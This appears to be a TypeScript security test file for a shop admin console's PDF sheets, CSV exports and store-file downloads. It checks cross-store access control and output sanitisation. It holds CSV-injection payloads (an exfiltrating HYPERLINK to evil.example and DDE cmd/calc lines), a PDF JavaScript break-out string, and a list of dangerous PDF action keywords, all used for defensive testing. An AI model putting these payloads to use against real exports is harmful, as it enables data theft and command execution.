import { raw } from './attack'
import { adminGetRoutes, consoleFixtures, errorShape, expect, test } from './console-attack'
import { BANK_TRANSFER, demoCatalog, placeOrder } from './shop'

// The console's downloads (issue 15): the CSV exports and a work order's production sheet. Each is
// the admin API's checks over GET: another store's or partner's work order is the same 404 as a
// missing one, an export holds only the member's stores, a cell a spreadsheet would run as a
// formula is neutralised, and a sheet carries no script or action. The routes are read from the
// app's folders: a route missing there fails its test (it is never skipped).

const SHEET = (id: number | string) => `/api/admin/work-orders/${id}/sheet.pdf`
const ORDERS_CSV = '/api/admin/exports/orders.csv'
/** Fails the test when the app has no such GET route (a renamed or removed download is a defect, not a skip). */
const expectRoute = (route: string) => expect(adminGetRoutes(), `the app has no ${route} route`).toContain(route)
const MISSING = 99_999_999
const PDF_BREAKOUT = ') /S /JavaScript /JS (app.alert(1)'
const FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"open")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0']

test('a production sheet of another partner’s or another store’s work order is the same 404 as a missing one', async ({ consoleAs }) => {
  expectRoute(SHEET(1))
  const f = consoleFixtures()
  const partner = await consoleAs('partner')
  const get = (member: typeof partner, id: number) => member.caller.get(SHEET(id), { bearer: null, headers: { cookie: `admin_session=${member.token}` } })
  const own = await get(partner, f.demoStore.demoPartnerWorkOrderId)
  expect(own.status, own.text).toBe(200)
  expect(own.headers['content-type']).toBe('application/pdf')
  expect(own.headers['cache-control']).toBe('no-store')
  const missing = await get(partner, MISSING)
  expect(missing.status).toBe(404)
  for (const id of [f.demoStore.otherPartnerWorkOrderId, f.secondStore.workOrderId]) {
    const other = await get(partner, id)
    expect(other.status, `partner: sheet of work order ${id}`).toBe(404)
    expect(errorShape(other, id)).toBe(errorShape(missing, MISSING))
  }
  const fulfilment = await consoleAs('fulfilment')
  const theirs = await get(fulfilment, f.secondStore.workOrderId)
  expect(theirs.status, 'fulfilment: the second store’s sheet').toBe(404)
  expect(errorShape(theirs, f.secondStore.workOrderId)).toBe(errorShape(await get(fulfilment, MISSING), MISSING))
})

test('an export holds only the member’s stores, neutralises formula cells, and a sheet of script-laden text carries no script', async ({ attack, consoleAs }) => {
  expectRoute(ORDERS_CSV)
  const f = consoleFixtures()
  // A guest whose name is a formula, confirmed by bank transfer; the wire's reference a formula too.
  const guest = await attack.caller('console-csv-guest')
  const shop = await demoCatalog(guest)
  const order = await placeOrder(guest, { name: FORMULAS[0], email: `console-csv-${Date.now()}@example.com`, address: { ...shop.address(FORMULAS[2]), street2: PDF_BREAKOUT } })
  expect((await guest.mutate('orderPayment', { acquirerId: BANK_TRANSFER, orderId: order.id, accessToken: order.accessToken })).status).toBe(200)
  const manager = await consoleAs('demoManager')
  expect((await manager.mutate('markOrderPaid', { orderId: order.id, reference: FORMULAS[1] })).status).toBe(200)

  const fulfilment = await consoleAs('fulfilment')
  const csv = await fulfilment.caller.get(`${ORDERS_CSV}?q=${encodeURIComponent(order.name)}`, { bearer: null, headers: { cookie: `admin_session=${fulfilment.token}` } })
  expect(csv.status, csv.text).toBe(200)
  expect(csv.headers['content-type']).toMatch(/^text\/csv/)
  expect(csv.headers['cache-control']).toBe('no-store')
  expect(csv.text).toContain(order.name)
  // Every text cell (amounts may be negative): none starts with what a spreadsheet runs (the neutralised ones start with ').
  const cells = csv.text.split(/\r\n/).flatMap((row) => row.match(/("(?:[^"]|"")*"|[^,]*)(?=,|$)/g) ?? [])
  for (const cell of cells.filter((cell) => !/^-?\d+(?:\.\d+)?$/.test(cell))) expect(cell.replace(/^"/, ''), `cell ${cell}`).not.toMatch(/^[=+\-@\t\r]/)
  expect(csv.text).toContain(`'${FORMULAS[1]}`)

  // Another store's orders are not in a member's export, whatever the filter.
  for (const query of ['', `?websiteId=${f.secondStoreId}`, '?q=S2-00001']) {
    const answer = await fulfilment.caller.get(`${ORDERS_CSV}${query}`, { bearer: null, headers: { cookie: `admin_session=${fulfilment.token}` } })
    expect([200, 404], `${ORDERS_CSV}${query}`).toContain(answer.status)
    expect(answer.text, `${ORDERS_CSV}${query}`).not.toContain('S2-00001')
  }

  // The sheet of the guest's work order: the address's PDF break-out drawn as text, no script, no action.
  {
    const { workOrders } = (await manager.query('orderWorkOrders', { orderId: order.id })).json.data as { workOrders: { id: number }[] }
    const bytes = await fetch(`${attack.baseURL}${SHEET(workOrders[0]!.id)}`, { headers: { cookie: `admin_session=${manager.token}` } })
    expect(bytes.status).toBe(200)
    const text = Buffer.from(await bytes.arrayBuffer()).toString('latin1')
    for (const action of ['/JavaScript', '/OpenAction', '/Launch', '/EmbeddedFile', '/AA ', '/URI (javascript']) expect(text, action).not.toContain(action)
  }
})

const STORE_FILE_EXPORT = '/api/admin/store-file/export'
const STORE_FILE_IMPORT = '/api/admin/store-file/import'

test('the store file opens to its store’s managers only: fulfilment 403, another store’s manager 404, no session 401', async ({ attack, consoleAs }) => {
  expectRoute(STORE_FILE_EXPORT)
  const f = consoleFixtures()
  const exportOf = (websiteId: number) => `${STORE_FILE_EXPORT}?websiteId=${websiteId}`
  const importInto = (websiteId: number) => `${STORE_FILE_IMPORT}?websiteId=${websiteId}&dryRun=1&name=store.json`
  const manager = await consoleAs('demoManager')
  const own = await manager.caller.get(exportOf(f.demoStoreId), { bearer: null, headers: { cookie: `admin_session=${manager.token}` } })
  expect(own.status, own.text).toBe(200)
  expect(own.headers['content-type']).toBe('application/zip')
  expect(own.headers['cache-control']).toBe('no-store')
  expect(own.headers['content-disposition']).toMatch(/^attachment; filename="[a-z0-9-]+-store-\d{4}-\d{2}-\d{2}\.zip"$/)

  const nobody = await attack.caller('store-file-nobody')
  for (const [who, member, status] of [
    ['fulfilment', await consoleAs('fulfilment'), 403],
    ['another store’s manager', await consoleAs('secondManager'), 404],
  ] as const) {
    const download = await member.caller.get(exportOf(f.demoStoreId), { bearer: null, headers: { cookie: `admin_session=${member.token}` } })
    expect(download.status, `${who}: export`).toBe(status)
    const upload = await member.post(importInto(f.demoStoreId), raw('{}'))
    expect(upload.status, `${who}: import`).toBe(status)
  }
  expect((await nobody.get(exportOf(f.demoStoreId), { bearer: null })).status).toBe(401)
  expect((await nobody.post(importInto(f.demoStoreId), raw('{}'), { bearer: null })).status).toBe(401)
})
